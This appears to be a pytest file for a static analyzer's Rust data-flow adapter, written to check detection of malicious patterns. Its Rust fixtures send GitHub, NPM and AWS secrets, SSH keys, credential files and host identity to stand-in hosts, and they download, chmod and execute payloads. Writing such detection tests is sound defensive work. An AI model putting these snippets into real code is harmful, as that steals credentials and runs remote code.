"""The Rust adapter's facts: callees through `use` and aliases, values of let bindings and macros, source labels,
Command builders run, files written by curl -o and run; never an exception on real Rust code."""
from __future__ import annotations

import time
from pathlib import Path

import pytest

from codescan.analyze.languages import parser
from codescan.analyze.semantics.lang.clike_rust import RustFlow


def facts(code: str):
    source = code.encode()
    return RustFlow(source, parser("rust").parse(source)).facts().calls


def calls_of(code: str, callee: str):
    return [c for c in facts(code) if c.callee == callee]


def test_command_through_use_alias_and_chain():
    code = """
use std::process::Command as C;
fn f(x: &str) { C::new("sh").arg("-c").args([x, "y"]).env("A", "1").status().unwrap(); }
"""
    [run] = calls_of(code, "std.process.Command")
    assert [a.const for a in run.args][:2] == ["sh", "-c"] and run.args[3].const == "y" and len(run.args) == 4


def test_command_held_in_a_variable_gets_later_arguments_in_order():
    code = """
use std::{env, process::Command};
fn f() {
    let token = env::var("GITHUB_TOKEN").unwrap();
    let mut c = Command::new("curl");
    c.arg("-d").arg(&token);
    c.arg("https://x.example/");
    c.output().unwrap();
}
"""
    [run] = calls_of(code, "std.process.Command")
    assert [a.const for a in run.args][:2] == ["curl", "-d"] and run.args[3].const == "https://x.example/"
    assert {"env-var", "secret"} <= run.args[2].labels
    [send] = calls_of(code, "shell.curl")
    assert "secret" in send.args[1].labels


def test_let_values_macros_and_string_building():
    code = """
const HOST: &str = concat!("exa", "mple.org");
fn f() {
    let a = String::from("cu") + "rl";
    let mut b = "wg".to_string();
    b.push_str("et");
    let c = format!("https://{}/{p}", HOST, p = "s.sh");
    let parts = ["/bin/", "sh"].concat();
    std::process::Command::new(&parts).args([a, b, c]).spawn();
}
"""
    [run] = calls_of(code, "std.process.Command")
    assert [a.const for a in run.args] == ["/bin/sh", "curl", "wget", "https://example.org/s.sh"]


def test_sources_env_macros_files_and_host_identity():
    code = """
use std::io::Write;
use std::net::TcpStream;
fn f() {
    let k = env!("AWS_SECRET_ACCESS_KEY");
    let key = include_str!(concat!(env!("HOME"), "/.ssh/id_rsa"));
    let host = hostname::get().unwrap();
    let p = dirs::home_dir().unwrap().join(".aws").join("credentials");
    let creds = std::fs::read_to_string(p).unwrap();
    if let Ok(mut s) = TcpStream::connect("203.0.113.1:80") {
        s.write_all(k.as_bytes()).unwrap();
        s.write_all(key.as_bytes()).unwrap();
        s.write_all(format!("{:?}", host).as_bytes()).unwrap();
        s.write_all(creds.as_bytes()).unwrap();
    }
}
"""
    writes = calls_of(code, "std.net.TcpStream.write_all")
    labels = [w.args[0].labels for w in writes]
    assert "secret" in labels[0] and "credential-file" in labels[1] and "host-identity" in labels[2] \
        and "credential-file" in labels[3]


def test_env_collected_in_a_helper_reaches_the_stream():
    code = """
fn collect() -> String {
    let mut s = String::new();
    for (k, v) in std::env::vars() { s.push_str(&format!("{}={}", k, v)); }
    s
}
fn g(mut c: std::net::TcpStream) { c.write_all(collect().as_bytes()); writeln!(c, "{}", collect()); }
"""
    assert "env" in calls_of(code, "std.net.TcpStream.write_all")[0].args[0].labels
    assert "env" in calls_of(code, "std.net.TcpStream.write_fmt")[0].args[0].labels


def test_curl_output_file_run_later_is_downloaded_and_chmod_is_shell_chmod():
    code = """
use std::process::Command;
fn f(dest: &str) {
    Command::new("curl").args(["-sSfL", "https://x.example/t", "-o", dest]).status();
    Command::new("chmod").arg("+x").arg(dest).status();
    Command::new(dest).spawn();
}
"""
    runs = calls_of(code, "std.process.Command")
    assert not any("downloaded" in a.labels for a in runs[0].args)  # curl itself runs no download
    assert "downloaded" in runs[1].args[0].labels
    [chmod] = calls_of(code, "shell.chmod")
    assert chmod.args[0].const == "+x" and "downloaded" in chmod.args[1].labels


def test_file_handle_written_then_permissions_set():
    code = """
use std::fs;
use std::os::unix::fs::PermissionsExt;
fn f() {
    let mut r = reqwest::blocking::get("https://x.example/b").unwrap();
    let mut out = fs::File::create("/tmp/b").unwrap();
    std::io::copy(&mut r, &mut out).unwrap();
    fs::set_permissions("/tmp/b", fs::Permissions::from_mode(0o755)).unwrap();
}
"""
    [perm] = calls_of(code, "std.fs.set_permissions")
    assert "downloaded" in perm.args[0].labels and perm.args[1].const == 0o755


def test_auth_tokens_are_not_data_and_methods_are_typed():
    code = """
fn f(t: String, body: String) {
    let c = reqwest::Client::builder().build().unwrap();
    c.post("https://api.example/x").bearer_auth(&t).header("Authorization", &t).body(body).send();
}
"""
    by_callee = {c.callee: c for c in facts(code)}
    assert by_callee["reqwest.RequestBuilder.bearer_auth"].args == ()
    assert [k for k, _ in by_callee["reqwest.RequestBuilder.header"].kwargs] == ["auth", "auth"]
    assert by_callee["reqwest.Client.post"].args[0].const == "https://api.example/x"


def test_a_local_variable_shadows_a_module_name():
    code = """
fn f() { let env = Settings::load(); let v = env::var("X"); }
"""
    assert not calls_of(code, "std.env.var")


def test_long_command_chain_is_bounded():
    # deeper trees (> 1000 levels) never reach the layer (treesitter.MAX_START_DEPTH); 300 links is 600 levels
    code = "fn f() { std::process::Command::new(\"echo\")" + ".arg(\"x\")" * 300 + ".status(); }"
    start = time.process_time()
    calls = calls_of(code, "std.process.Command")
    assert time.process_time() - start < 20
    assert len(calls) <= 1


REGISTRY = Path("/usr/share/cargo/registry")


@pytest.mark.skipif(not REGISTRY.is_dir(), reason="no Rust crate sources on this machine (Debian librust-*-dev)")
def test_no_exception_on_real_crates():
    files = sorted(REGISTRY.rglob("*.rs"))[::25][:160]
    for path in files:
        source = path.read_bytes()[:200_000]
        RustFlow(source, parser("rust").parse(source)).facts()


def test_build_scripts_grade_secrets_and_beacons_higher():
    from codescan.analyze.document import Analyzer
    from codescan.config import Config
    from codescan.records import Document
    from codescan.rules import load_rules

    rules = load_rules()
    code = b"""
fn main() {
    let t = std::env::var("NPM_TOKEN").unwrap();
    let h = hostname::get().unwrap();
    let c = reqwest::blocking::Client::new();
    c.post("https://x.example.dev/a").body(t).send();
    c.post("https://x.example.dev/b").body(format!("{:?}", h)).send();
}
"""
    ids = ("secret-env-var-sent-over-network", "host-identity-sent-over-network")
    analyzer = Analyzer(rules.select(ids, ()), Config(honour_suppressions=False))

    def graded(path):
        return {(f.rule_id, f.severity) for f in analyzer.analyze(Document(path=path, content=code)).findings}
    assert graded("tools/build.rs") == {(ids[0], "critical"), (ids[1], "high")}
    assert graded("src/lib.rs") == {(ids[0], "high"), (ids[1], "medium")}


def test_curl_write_function_and_hyper_responses_carry_network_data_and_nid_constants_are_named():
    code = """
use curl::easy::Easy;
use hyper::{body, Client};
use openssl::nid::Nid;
use openssl::symm::Cipher;
async fn f() {
    let mut e = Easy::new();
    let mut got = Vec::new();
    e.write_function(|d| { got.extend_from_slice(d); Ok(d.len()) }).unwrap();
    std::process::Command::new("sh").arg(String::from_utf8(got).unwrap()).status();
    let c = Client::new();
    let r = c.get("http://h/x".parse().unwrap()).await.unwrap();
    let b = body::to_bytes(r.into_body()).await.unwrap();
    std::process::Command::new("sh").arg(b.to_vec()).status();
    Cipher::from_nid(Nid::RC4).unwrap();
}
"""
    runs = calls_of(code, "std.process.Command")
    assert [("network" in run.args[-1].labels) for run in runs] == [True, True]
    [pick] = calls_of(code, "openssl.symm.Cipher.from_nid")
    assert pick.args[0].name == "openssl.nid.Nid.RC4"
